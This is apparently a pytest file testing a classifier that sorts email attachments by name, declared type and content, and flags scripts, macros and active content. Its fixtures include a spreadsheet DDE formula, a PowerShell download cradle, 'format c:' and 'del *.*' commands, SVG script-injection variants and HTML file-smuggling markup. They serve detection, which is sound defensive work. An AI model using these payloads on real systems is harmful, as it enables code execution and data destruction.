"""A part is whatever any of its names, its declared type or its content says."""

import base64
import struct

import pytest

from rules.facts import By, Kind
from rules.reading.filetype import signs_of

PE = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0L\x01" + b"\0" * 200


def told(names, declared, octets):
    return {(sign.kind, sign.by) for sign in signs_of(names, declared, octets)}


@pytest.mark.parametrize("codec", ["utf-8", "utf-16", "utf-16-le", "utf-16-be"])
def test_e15_a_formula_that_starts_a_program_is_told_in_any_charset(codec):
    table = "name,amount\r\n=cmd|'/c calc'!A1,2\r\n".encode(codec)
    assert "formula that starts cmd" in {sign.text for sign in signs_of(("a.csv",), None, table)}


def test_each_source_is_told_apart():
    assert told(["scan.pdf"], "application/hta", PE) == {
        (Kind.DOCUMENT, By.NAME),
        (Kind.SCRIPT, By.DECLARED),
        (Kind.PROGRAM, By.CONTENT),
    }


@pytest.mark.parametrize("declared", ["application/x-msdownload", "APPLICATION/JAVASCRIPT", "application/java-archive"])
def test_a_declared_type_is_enough(declared):
    assert By.DECLARED in {by for _, by in told([], declared, b"text")}


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (b"IEX (New-Object Net.WebClient).DownloadString('https://a.example/')", Kind.SCRIPT),
        (b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n', Kind.SCRIPT),
        (b"[InternetShortcut]\r\nURL=https://a.example/\r\n", Kind.SHORTCUT),
    ],
)
def test_a_script_in_a_text_file_counts_and_in_a_mails_text_does_not(text, kind):
    assert (kind, By.CONTENT) in told(["notes.txt"], "text/plain", text)
    assert (kind, By.CONTENT) in told([], "application/octet-stream", text)
    assert told([], "text/plain", text) == {(Kind.TEXT, By.CONTENT)}


def test_a_page_is_looked_at_by_name_even_when_it_begins_as_text():
    page = b"Hello " + b'<a href="data:x;base64,' + base64.b64encode(PE) + b'">open</a>'
    page = page.replace(base64.b64encode(PE), base64.b64encode(b"MZ\x90\0\x03\0" + PE))
    assert (Kind.ACTIVE_CONTENT, By.CONTENT) in told(["message.htm"], None, page)


def test_postscript_that_starts_a_program_is_active():
    assert (Kind.ACTIVE_CONTENT, By.CONTENT) in told(
        ["a.eps"], None, b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%calc) (w) file\n"
    )
    assert told(["a.eps"], None, b"%!PS-Adobe-3.0 EPSF-3.0\nshowpage\n") == {
        (Kind.DOCUMENT, By.NAME), (Kind.DOCUMENT, By.CONTENT), (Kind.TEXT, By.CONTENT),
    }  # fmt: skip


def test_e16_xml_that_is_no_page_is_looked_at_as_a_file_alone():
    xml = b'<?xml version="1.0"?><a xmlns:s="http://www.w3.org/2000/svg"><s:script>x()</s:script></a>'
    assert (Kind.ACTIVE_CONTENT, By.CONTENT) in told(["a.xml"], "text/xml", xml)
    assert (Kind.ACTIVE_CONTENT, By.CONTENT) not in told([], "text/plain", xml)


def test_a_hosts_name_is_no_program():
    assert told(["Minutes of city.com"], "text/plain", b"Hello") == {(Kind.TEXT, By.CONTENT)}
    assert told(["www.city.com"], "text/plain", b"Hello") == {(Kind.TEXT, By.CONTENT)}
    assert told(["http://city.com"], "text/plain", b"Hello") == {(Kind.TEXT, By.CONTENT)}
    assert (Kind.PROGRAM, By.NAME) not in told(["city.com"], "text/html", b"<!DOCTYPE html><title>City</title>")
    assert (Kind.PROGRAM, By.NAME) in told(["run.com"], "text/plain", b"format c:\r\ndel *.*\r\n")
    assert (Kind.PROGRAM, By.NAME) in told(["Run.COM"], None, b"format c:\r\ndel *.*\r\n")
    assert (Kind.PROGRAM, By.NAME) in told(["payload.com"], None, b"\xb4\x4c\xcd\x21" + bytes(60))
    assert (Kind.PROGRAM, By.CONTENT) in told(["city.com"], None, PE)


def test_a_message_is_text_whatever_its_name():
    assert told(["note.eml"], None, b"From: a\r\n\r\nx") >= {(Kind.MESSAGE, By.NAME)}
    assert told(["note.eml"], None, PE) == {(Kind.PROGRAM, By.CONTENT)}


def test_macros_are_told_from_within(compound_file):
    octets = compound_file({"WordDocument": bytes(600), "Macros/VBA/dir": b"x"})
    assert (Kind.MACRO_DOCUMENT, By.CONTENT) in told(["letter.doc"], "application/msword", octets)


def test_a_debian_package_is_an_installer():
    octets = b"!<arch>\ndebian-binary   1410122664  0     0     100644  4         `\n2.0\n"
    assert (Kind.INSTALLER, By.CONTENT) in told(["a.bin"], None, octets)


def test_calendars_and_unknown_octets():
    assert told([], "text/calendar", b"BEGIN:VCALENDAR\r\n") == {(Kind.CALENDAR, By.CONTENT)}
    assert told([], None, bytes([0, 7, 0, 200] * 64)) == {(Kind.UNKNOWN, By.CONTENT)}
    assert told([], None, b"") == set()


def test_libmagic_is_asked_for_what_the_table_does_not_know():
    assert told([], None, b"SQLite format 3\0" + bytes(100)) == {(Kind.UNKNOWN, By.CONTENT)}
    assert told([], None, bytes(1_040) + b"\x7f\x13" + bytes(2_000)) == {(Kind.DISK_IMAGE, By.CONTENT)}


def test_old_machines_programs_are_not_seen_in_data():
    assert told([], None, b"\x4c\x01\x05\x00" + bytes(16) + b"\xe0\0\x02\x01" + bytes(99)) == {
        (Kind.UNKNOWN, By.CONTENT)
    }


_PAGE = b"<html><body><script>a.href = URL.createObjectURL(new Blob([x])); a.download = 'a.iso'</script>"


@pytest.mark.parametrize(
    "octets",
    [
        _PAGE.replace(b"<body>", b"\x01<body>"),
        b"GIF89a\x01\0\x01\0\0\0\0;" + _PAGE,
        _PAGE.decode().encode("utf-16-le"),
        _PAGE.decode().encode("utf-16-be"),
    ],
)
def test_a_page_by_name_is_judged_as_one_whatever_it_begins_with(octets):
    active = [sign.text for sign in signs_of(("a.html",), "text/html", octets) if sign.kind is Kind.ACTIVE_CONTENT]
    assert active == ["HTML page that builds a file"]


@pytest.mark.parametrize(
    "inner",
    [
        '<a href="java&#9;script:alert(1)">x</a>',
        '<a href="java\nscript:alert(1)">x</a>',
        '<a href="java&#x0A;script&Tab;:alert(1)">x</a>',
        "<a-b:script>alert(1)</a-b:script>",
        '<set attributeName="onmouseover" to="alert(1)"/>',
        '<?xml-stylesheet type="text/xsl" href="data:text/xml;base64,QUFB"?>',
    ],
)
def test_script_of_a_picture_is_seen_however_it_is_written(inner):
    picture = f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'
    for octets in (picture.encode(), picture.encode("utf-16-be")):
        signs = signs_of(("a.svg",), "image/svg+xml", octets)
        assert Kind.ACTIVE_CONTENT in {sign.kind for sign in signs}


def test_a_picture_with_a_style_sheet_runs_nothing():
    picture = b'<?xml-stylesheet type="text/css" href="a.css"?><svg><animate attributeName="opacity"/></svg>'
    assert Kind.ACTIVE_CONTENT not in {sign.kind for sign in signs_of(("a.svg",), "image/svg+xml", picture)}


@pytest.mark.parametrize("front", [b"#!/bin/sh\nexit\n", b"@echo off\r\nexit /b\r\n"])
def test_a_script_with_an_archive_behind_its_commands_is_one(front):
    octets = front + bytes(range(256)) * 4
    assert (Kind.SCRIPT, By.CONTENT) in told(["a.dat"], None, octets)
    assert (Kind.SCRIPT, By.CONTENT) not in told(["a.dat"], None, b"#!AMR\n/" + octets)


@pytest.mark.parametrize("before", [10, 60, 70, 4_000])
def test_e15_a_formula_behind_a_nul_is_told_wherever_that_stands(before):
    table = b"name,amount\r\n".ljust(before, b"x") + b"\0\r\n=cmd|'/c calc'!A1,2\r\n"
    assert "formula that starts cmd" in [sign.text for sign in signs_of(("a.csv",), None, table)]


@pytest.mark.parametrize(("letters", "text"), [(4_095, False), (4_096, True)])
def test_what_begins_with_so_much_text_is_text_and_with_less_is_not(letters, text):
    """Archives and discs are looked for behind it in any case."""
    assert ("plain text" in [sign.text for sign in signs_of((), None, b"a" * letters + b"\0" * 8)]) == text
